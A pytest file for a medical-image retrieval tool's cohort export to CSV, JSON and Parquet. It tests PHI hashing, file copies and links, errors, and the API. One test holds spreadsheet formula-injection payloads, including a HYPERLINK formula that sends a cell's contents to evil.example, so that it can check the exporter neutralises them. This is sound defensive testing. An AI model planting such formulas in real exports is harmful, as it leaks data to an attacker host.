"""Cohort export: CLI to CSV / JSON / Parquet with copies or links, and the same via the API."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil

import httpx
import pyarrow.parquet as pq
import pytest

from retrieval.errors import InputError
from retrieval.export import COLUMNS

from .conftest import PYDICOM_TEST_FILES, write_images
from .serving import cli, index_store, make_app, running


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def store(request, tmp_path_factory, tiny_model):
    """An indexed store per back end (SQLite, or a fresh PostgreSQL database its manifest names)."""
    db = (None if request.param == "sqlite"
          else request.getfixturevalue("postgres_server").create_database())
    root = tmp_path_factory.mktemp("export")
    write_images(root / "images", 7, seed=5)
    for name in ("CT_small.dcm", "MR_small.dcm"):
        shutil.copy(PYDICOM_TEST_FILES / name, root / "images" / name)
    index_store(root / "store", root / "images", tiny_model, db=db)
    return root


def _read(path):
    if path.suffix == ".csv":
        return list(csv.DictReader(path.open()))
    if path.suffix == ".json":
        return json.loads(path.read_text())
    return pq.read_table(path).to_pylist()


@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet"])
def test_export_query_matches_search(store, tmp_path, suffix):
    args = ("--store", str(store / "store"), "-k", "6")
    query = '"pleural effusion" - "chest tube"'
    expected = cli("search", query, *args)["results"]
    out = tmp_path / f"cohort{suffix}"
    doc = cli("export", "--query", query, "--out", str(out), *args)
    assert doc["rows"] == 6 and doc["format"] == suffix[1:] and doc["files"] is None
    rows = _read(out)
    assert list(rows[0].keys()) == list(COLUMNS)
    assert [int(r["id"]) for r in rows] == [r["id"] for r in expected]
    assert [int(r["rank"]) for r in rows] == list(range(1, 7))
    assert [float(r["score"]) for r in rows] == pytest.approx([r["score"] for r in expected])
    assert [r["path"] for r in rows] == [r["path"] for r in expected]


def test_export_keeps_the_phi_policy(store, tmp_path):
    out = tmp_path / "ct.csv"
    cli("export", "--query", "scan", "--modality", "CT", "--modality", "MR", "--out", str(out),
        "--store", str(store / "store"), "-k", "10")
    rows = _read(out)
    assert sorted(r["modality"] for r in rows) == ["CT", "MR"]
    keys = {r["patient_key"] for r in rows}
    assert all(keys) and not keys & {"1CT1", "4MR1"}  # hashed at index time, never the raw ID
    text = out.read_text()
    for identifier in ("CompressedSamples", "1CT1", "4MR1"):
        assert identifier not in text


def test_export_similar_and_id_with_copies_and_links(store, tmp_path):
    image = sorted((store / "images").glob("*.png"))[0]
    common = ("--store", str(store / "store"), "-k", "3")
    doc = cli("export", "--similar", str(image), "--out", str(tmp_path / "s.json"),
              "--copy-to", str(tmp_path / "copies"), *common)
    rows = _read(tmp_path / "s.json")
    assert rows[0]["path"] == str(image.absolute()) and rows[0]["score"] > 0.9999
    assert doc["files"]["placed"] == 3 and doc["files"]["mode"] == "copy"
    copies = sorted((tmp_path / "copies").iterdir())
    assert [p.name.split("-", 2)[:2] for p in copies] == [[f"{r['rank']:04d}", str(r["id"])] for r in rows]
    for copy, row in zip(copies, rows):
        assert not copy.is_symlink() and copy.read_bytes() == open(row["path"], "rb").read()

    by_id = cli("export", "--id", str(rows[0]["id"]), "--out", str(tmp_path / "i.csv"),
                "--link-to", str(tmp_path / "links"), *common)
    id_rows = _read(tmp_path / "i.csv")
    assert rows[0]["id"] not in [int(r["id"]) for r in id_rows]  # the query image itself is left out
    links = sorted((tmp_path / "links").iterdir())
    assert by_id["files"]["placed"] == len(links) == 3
    assert all(p.is_symlink() and str(p.resolve()) == r["path"] for p, r in zip(links, id_rows))


def test_export_empty_cohort_still_has_a_header(store, tmp_path):
    out = tmp_path / "none.csv"
    doc = cli("export", "--query", "anything", "--min-score", "0.99999", "--out", str(out),
              "--store", str(store / "store"))
    assert doc["rows"] == 0
    assert out.read_text().strip() == ",".join(COLUMNS)


@pytest.mark.parametrize("args, message", [
    (["--out", "x.xlsx", "--query", "a"], "must end in .csv, .json or .parquet"),
    (["--out", "x.csv"], "exactly one of"),
    (["--out", "x.csv", "--query", "a", "--id", "1"], "exactly one of"),
    (["--out", "x.csv", "--query", "a", "--copy-to", "c", "--link-to", "l"], "not both"),
    (["--out", "nowhere/x.csv", "--query", "a"], "does not exist"),
    (["--out", "x.csv", "--id", "9999"], "no indexed image with id 9999"),
])
def test_export_errors(store, tmp_path, monkeypatch, args, message):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError, match=message):
        cli("export", *args, "--store", str(store / "store"))
    assert not (tmp_path / "x.csv").exists()


def test_api_export_equals_cli_export(store, tmp_path):
    query = '2:"effusion" - "tube"'
    out = tmp_path / "cli.csv"
    cli("export", "--query", query, "--out", str(out), "--store", str(store / "store"), "-k", "5")
    image = sorted((store / "images").glob("*.png"))[1]
    with running(make_app(store / "store")) as url, httpx.Client(base_url=url, timeout=60) as client:
        response = client.post("/export", params={"format": "csv"}, json={"query": query, "k": 5})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        assert response.content == out.read_bytes()

        parquet = client.post("/export", params={"format": "parquet"}, json={"id": 1, "k": 4})
        table = pq.read_table(io.BytesIO(parquet.content)).to_pylist()
        assert len(table) == 4 and 1 not in [r["id"] for r in table]

        upload = client.post("/export", params={"format": "json"},
                             files={"file": ("query", image.read_bytes())}, data={"k": "2"})
        rows = upload.json()
        assert rows[0]["path"] == str(image.absolute()) and rows[0]["score"] > 0.9999

        bad = client.post("/export", params={"format": "xlsx"}, json={"query": "a"})
        assert bad.status_code == 422 and "error" in bad.json()


def test_csv_neutralises_formulas_json_and_parquet_stay_exact(tmp_path, tiny_model):
    """A spreadsheet runs cells that begin with = + - @ (or tab, CR): CSV prefixes them with '."""
    import pydicom

    from retrieval.export import cohort_rows, to_bytes

    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)",
               "\t=1", "\r=1", "plain", "1.5-2"]
    rows = cohort_rows({"id": i, "path": f"/data/{i}.png", "score": 0.5,
                        "metadata": {"study_description": text, "modality": "CT"}}
                       for i, text in enumerate(hostile))
    written = list(csv.DictReader(io.StringIO(to_bytes(rows, "csv").decode(), newline="")))
    cells = [r["study_description"] for r in written]
    assert cells[:6] == ["'" + text for text in hostile[:6]]
    assert cells[6:] == ["plain", "1.5-2"]
    assert written[0]["score"] == "0.5" and written[0]["rank"] == "1"
    assert [r["study_description"] for r in json.loads(to_bytes(rows, "json"))] == hostile
    table = pq.read_table(io.BytesIO(to_bytes(rows, "parquet"))).to_pylist()
    assert [r["study_description"] for r in table] == hostile
    # End to end: a DICOM whose study description is a formula, exported by the CLI.
    folder = tmp_path / "dicom"
    folder.mkdir()
    ds = pydicom.dcmread(PYDICOM_TEST_FILES / "CT_small.dcm")
    ds.StudyDescription = '=HYPERLINK("http://evil.example","x")'
    ds.save_as(folder / "formula.dcm")
    index_store(tmp_path / "store", folder, tiny_model)
    out = tmp_path / "cohort.csv"
    cli("export", "--query", "ct", "-k", "1", "--out", str(out), "--store", str(tmp_path / "store"))
    [row] = list(csv.DictReader(out.open()))
    assert row["study_description"] == "'" + ds.StudyDescription


def test_an_output_that_is_not_a_regular_file_is_refused_not_replaced(tmp_path):
    """Renaming a temp file over /dev/null (or a FIFO, a device) would put a file in its place."""
    import stat

    from retrieval.export import write_rows
    from retrieval.report import write_html

    fifo = tmp_path / "cohort.csv"
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="not a regular file"):
        write_rows([{"id": 1, "score": 0.5}], fifo)
    with pytest.raises(InputError, match="not a regular file"):
        write_html(fifo, "<p>report</p>")
    assert stat.S_ISFIFO(fifo.stat().st_mode) and sorted(tmp_path.iterdir()) == [fifo]
